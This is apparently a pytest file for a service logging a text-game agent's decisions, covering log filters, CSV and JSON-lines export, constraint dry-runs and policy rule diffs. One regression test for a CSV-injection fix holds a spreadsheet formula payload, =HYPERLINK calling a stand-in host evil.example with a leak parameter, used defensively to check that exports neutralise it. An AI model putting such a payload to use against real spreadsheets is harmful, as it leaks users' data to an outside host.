"""The routes the console reads: the network, a decision in full, the log's filters and export,
the dry-run replay of a constraint, a policy version's detail and the rule diff between two.
Live against gunicorn (answers checked against openapi.yaml), and in-process for settings."""

from __future__ import annotations

import csv
import io
import json
import time

import pytest

from converter.converter import FOLConverter


def newest_decision(server, request_id: str) -> dict:
    for _ in range(100):
        items = server.get("/v1/decisions?limit=100", operator=True).json()["items"]
        found = [d for d in items if d["request_id"] == request_id]
        if found:
            return found[0]
        time.sleep(0.05)
    raise AssertionError(f"{request_id} not logged")


def test_network_is_the_policys_weights_and_matches_its_rules(server, check, policy_root):
    from model.registry import load_artifact

    out = check("GET", "/v1/rules/network", server.get("/v1/rules/network"))
    model = load_artifact(policy_root / "fol-rules" / "v1").model
    assert out["classes"] == json.loads(json.dumps(model.network()))
    rules = {r["class"]: r for r in server.get("/v1/rules").json()["rules"]}
    for cls in out["classes"]:
        in_rule = [g for g in cls["gates"] if g["in_rule"]]
        assert [g["rule_id"] for g in in_rule] == rules[cls["class"]]["rule_ids"]
        for gate, conj in zip(in_rule, rules[cls["class"]]["conjunctions"], strict=True):
            names = {n for n, d in zip(cls["literals"], gate["decisive"], strict=True) if d}
            assert len(names) == len(conj)


def test_a_logged_decision_shows_what_the_agent_saw(server, check, body_of):
    body = body_of(12)
    made = server.post("/v1/act", body).json()
    facts = server.post("/v1/facts", body).json()
    item = newest_decision(server, made["request_id"])
    assert item["room"] == facts["room"]
    assert item["scores"] == made["scores"] and item["candidates"] is None
    detail = check(
        "GET", "/v1/decisions/{id}", server.get(f"/v1/decisions/{item['id']}", operator=True)
    )
    assert detail["fact_table"] == facts["facts"]
    assert detail["observation"] == body["observation"][:2000]
    assert detail["facts"] == made["facts"] and detail["rule"] == made["rule"]
    missing = server.get(f"/v1/decisions/{2**40}", operator=True)
    assert check("GET", "/v1/decisions/{id}", missing)["error"]["code"] == "decision_not_found"
    assert server.get(f"/v1/decisions/{item['id']}").status_code == 401


def test_blocked_decisions_name_their_constraints_and_filter(server, check, body_of):
    rec = server.post(
        "/v1/constraints",
        {"text": "forbid go(east)", "mode": "enforce", "author": "t", "reason": "test"},
        operator=True,
    ).json()
    try:  # body_of(5): a room with exits east and west
        made = server.post("/v1/act", body_of(5)).json()
    finally:
        server.delete(f"/v1/constraints/{rec['id']}")
    item = newest_decision(server, made["request_id"])
    detail = server.get(f"/v1/decisions/{item['id']}", operator=True).json()
    assert detail["blocked"] == [{"action": "go east", "constraint_id": rec["id"]}]
    assert [c["text"] for c in detail["constraints"]] == ["forbid go(east)"]  # retired now
    page = check("GET", "/v1/decisions", server.get("/v1/decisions?blocked=true", operator=True))
    assert item["id"] in [d["id"] for d in page["items"]]
    assert all(d["blocked"] for d in page["items"])
    bad = server.get("/v1/decisions?since=yesterday", operator=True)
    assert check("GET", "/v1/decisions", bad)["error"]["code"] == "validation_error"


def test_export_writes_the_filtered_log_as_csv_and_json_lines(server, check, body_of):
    for n in (2, 3, 4):
        server.post("/v1/act", body_of(n))
    time.sleep(0.2)
    listed = server.get("/v1/decisions?limit=500&rule_id=direction/0", operator=True).json()
    jsonl = server.get("/v1/decisions/export?rule_id=direction/0&format=jsonl", operator=True)
    check("GET", "/v1/decisions/export", jsonl)
    lines = [json.loads(line) for line in jsonl.text.split("\n") if line]
    assert [d["id"] for d in lines] == [d["id"] for d in listed["items"]]
    csv_resp = server.get("/v1/decisions/export?format=csv&limit=2", operator=True)
    check("GET", "/v1/decisions/export", csv_resp)
    rows = list(csv.DictReader(io.StringIO(csv_resp.text)))
    assert len(rows) == 2 and json.loads(rows[0]["scores"])
    bad = server.get("/v1/decisions/export?format=xml", operator=True)
    assert check("GET", "/v1/decisions/export", bad)["error"]["code"] == "validation_error"


def _jsonl_lines(resp) -> list[str]:
    """JSON lines are split at "\n" only: a logged observation may hold U+2028 or U+0085, which
    JSON leaves unescaped and ``str.splitlines`` would split at."""
    return [line for line in resp.get_data(as_text=True).split("\n") if line]


def test_export_pages_through_more_than_one_store_page(app, body_of, monkeypatch):
    import service.reads as service_reads

    runtime = app.extensions["folnn"]
    client = app.test_client()
    for n in range(3):
        assert client.post("/v1/act", json=body_of(n)).status_code == 200
    runtime.decisions.flush()
    monkeypatch.setattr(service_reads, "PAGE", 2)
    headers = {"Authorization": "Bearer test-operator-token"}
    listed = client.get("/v1/decisions?limit=500", headers=headers).get_json()["items"]
    assert len(listed) >= 3
    resp = client.get("/v1/decisions/export?limit=3", headers=headers)
    exported = [json.loads(line)["id"] for line in _jsonl_lines(resp)]
    assert exported == [d["id"] for d in listed[:3]]
    resp = client.get("/v1/decisions/export", headers=headers)
    all_ids = [json.loads(line)["id"] for line in _jsonl_lines(resp)]
    assert all_ids == [d["id"] for d in listed], (all_ids, [d["id"] for d in listed])


def test_preview_validates_and_counts_what_a_replay_counts(server, check, body_of):
    from service.constraints import compile_constraint
    from service.review import table_from_facts

    for n in range(0, 30, 3):
        server.post("/v1/act", body_of(n))
    time.sleep(0.2)
    bad = server.post("/v1/constraints/preview", {"text": "forbid go(x) when\nvisted(x)"}, True)
    out = check("POST", "/v1/constraints/preview", bad)
    assert out["valid"] is False
    assert (out["error"]["line"], out["error"]["column"]) == (2, 1)
    assert "visted" in out["error"]["message"]
    text = "forbid go(x) when not visited(x)"
    resp = server.post("/v1/constraints/preview", {"text": text, "limit": 40}, operator=True)
    out = check("POST", "/v1/constraints/preview", resp)
    vocab = FOLConverter().vocabulary
    compiled = compile_constraint(text, vocab)
    items = server.get("/v1/decisions?limit=40", operator=True).json()["items"]
    replayed = []
    for item in items:
        if item["status"] != 200:
            continue
        detail = server.get(f"/v1/decisions/{item['id']}", operator=True).json()
        table = table_from_facts(detail["fact_table"], vocab)
        replayed.append(compiled.blocks(table, vocab.actions.index(item["action"])))
    assert (out["would_block"], out["considered"]) == (sum(replayed), len(replayed))
    assert out["considered"] + out["skipped"] == len(items)
    assert len(out["examples"]) == min(5, out["would_block"])
    for ex in out["examples"]:
        assert ex["action"].startswith("go ") and ex["instead"] != ex["action"]
    too_many = server.post("/v1/constraints/preview", {"text": text, "limit": 10**6}, True)
    assert check("POST", "/v1/constraints/preview", too_many)["error"]["code"] == (
        "validation_error"
    )


def test_policy_detail_and_rule_diff(server, check, policy_root):
    from model.registry import load_artifact

    v1 = check("GET", "/v1/policies/{version}", server.get("/v1/policies/v1", operator=True))
    model = load_artifact(policy_root / "fol-rules" / "v1").model
    assert v1["rules"] == [r.to_dict() for r in model.rules()]
    assert v1["provenance"]["version"] == "v1"
    tampered = server.get("/v1/policies/tampered", operator=True)
    assert check("GET", "/v1/policies/{version}", tampered)["error"]["code"] == "artifact_refused"
    missing = server.get("/v1/policies/nope", operator=True)
    assert check("GET", "/v1/policies/{version}", missing)["error"]["code"] == "version_not_found"
    same = server.get("/v1/policies/v1/diff/v1", operator=True)
    assert check("GET", "/v1/policies/{base}/diff/{head}", same)["same"] is True
    if (policy_root / "fol-rules" / "shipped").is_dir():
        diff = server.get("/v1/policies/v1/diff/shipped", operator=True).json()
        shipped = {  # one network per (class, verb): the default has go and open
            (r["class"], r["action"]): r
            for r in server.get("/v1/policies/shipped", operator=True).json()["rules"]
        }
        assert {(c["class"], c["action"]) for c in diff["classes"]} >= set(shipped)
        for cls in diff["classes"]:
            head = shipped[cls["class"], cls["action"]]
            assert len(cls["added"]) + len(cls["kept"]) == len(
                {json.dumps(sorted(map(json.dumps, c))) for c in head["conjunctions"]}
            )
            assert cls["head_text"] == head["text"]


@pytest.mark.parametrize("mode,chars", [("text", 40), ("hash", 2000)])
def test_the_log_keeps_the_observation_bounded_or_only_its_hash(
    tmp_path, settings_for, body_of, mode, chars
):
    import hashlib

    from service import create_app

    app = create_app(settings_for(tmp_path, audit_observation=mode, audit_observation_chars=chars))
    body = body_of(7)
    assert app.test_client().post("/v1/act", json=body).status_code == 200
    runtime = app.extensions["folnn"]
    runtime.decisions.flush()
    ((_, rec),) = runtime.store.decisions(1, None)
    assert rec.observation_sha256 == hashlib.sha256(body["observation"].encode()).hexdigest()
    expected = body["observation"][:40] if mode == "text" else None
    assert rec.observation == expected


@pytest.mark.parametrize(
    "query",
    [
        "after=%C2%B2",  # a superscript two: a digit to str.isdigit, not to int()
        "cursor=99999999999999999999999",
        "since=2026-13-01",
        "until=not-a-time",
        "blocked=maybe",
        "action=" + "x" * 21,
        "since=" + "2026-01-01T00:00:00" + "0" * 30,
    ],
)
def test_bad_log_filters_answer_422_never_500(app, query):
    resp = app.test_client().get(
        f"/v1/decisions?{query}", headers={"Authorization": "Bearer test-operator-token"}
    )
    assert resp.status_code == 422, resp.get_data(as_text=True)
    assert resp.get_json()["error"]["code"] == "validation_error"


def test_csv_export_neutralises_cells_a_spreadsheet_would_evaluate(app):
    """Issue 20, finding 4: a room header `-= =1+2*3 =-` and an observation holding
    `=HYPERLINK(...)` reached the CSV verbatim; every such cell now starts with `'`."""
    from service.review import csv_cell

    client = app.test_client()
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'
    observation = f"-= =1+2*3 =-\n{hyperlink}\nThere is an exit to the north."
    made = client.post("/v1/act", json={"observation": observation}).get_json()
    app.extensions["folnn"].decisions.flush()
    headers = {"Authorization": "Bearer test-operator-token"}
    text = client.get("/v1/decisions/export?format=csv", headers=headers).get_data(as_text=True)
    row = next(
        r for r in csv.DictReader(io.StringIO(text)) if r["request_id"] == made["request_id"]
    )
    assert row["room"] == "'=1+2*3"
    assert row["observation"].startswith("'-= =1+2*3 =-")
    for value in ("=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"):
        assert csv_cell(value) == "'" + value
    assert csv_cell("go north") == "go north" and csv_cell(3) == 3 and csv_cell(None) == ""
    assert csv_cell(True) == "true" and csv_cell(["=x"]) == '["=x"]'


def test_the_rule_diff_keeps_a_network_per_verb_of_a_class():
    from service.review import rule_diff

    vocabulary = FOLConverter().vocabulary

    def rule(action: str, *predicates: str) -> dict:
        conj = [{"predicate": p, "negated": False} for p in predicates]
        return {"class": "direction", "action": action, "text": action, "conjunctions": [conj]}

    base = [rule("go", "find"), rule("open", "find")]
    head = [rule("go", "find"), rule("open", "find", "visited")]
    diff = {(d["class"], d["action"]): d for d in rule_diff(base, head, vocabulary)}
    assert len(diff) == 2  # keyed by class alone, open's rule overwrote go's
    assert diff["direction", "go"]["same"]
    assert diff["direction", "open"]["added"] == ["find(x) ∧ visited(x)"]


def test_the_rule_diff_writes_each_side_in_its_own_vocabulary():
    """A TextWorldExpress version (``closed`` read) against one trained without it: the
    predicate only the head reads is still written ``closed(x)``."""
    import dataclasses

    from service.review import rule_diff

    base_vocabulary = FOLConverter().vocabulary  # the paper's predicates
    head_vocabulary = dataclasses.replace(
        base_vocabulary, unary_predicates=(*base_vocabulary.unary_predicates, "closed")
    )

    def rule(*literals: tuple[str, bool]) -> dict:
        conj = [{"predicate": p, "negated": n} for p, n in literals]
        return {"class": "direction", "action": "go", "text": "go", "conjunctions": [conj]}

    base = [rule(("find", False))]
    head = [rule(("find", False), ("closed", True))]
    (diff,) = rule_diff(base, head, base_vocabulary, head_vocabulary)
    assert diff["added"] == ["find(x) ∧ ¬closed(x)"] and diff["removed"] == ["find(x)"]
    (old,) = rule_diff(base, head, base_vocabulary)  # both read in the base's vocabulary
    assert old["added"] == ["find(x) ∧ ¬closed"]
    reordered = dataclasses.replace(  # the same predicates listed in another order
        head_vocabulary, unary_predicates=tuple(reversed(head_vocabulary.unary_predicates))
    )
    two = [rule(("find", False), ("visited", True))]
    (same,) = rule_diff(two, two, base_vocabulary, reordered)
    assert same["same"] and same["kept"] == ["find(x) ∧ ¬visited(x)"]
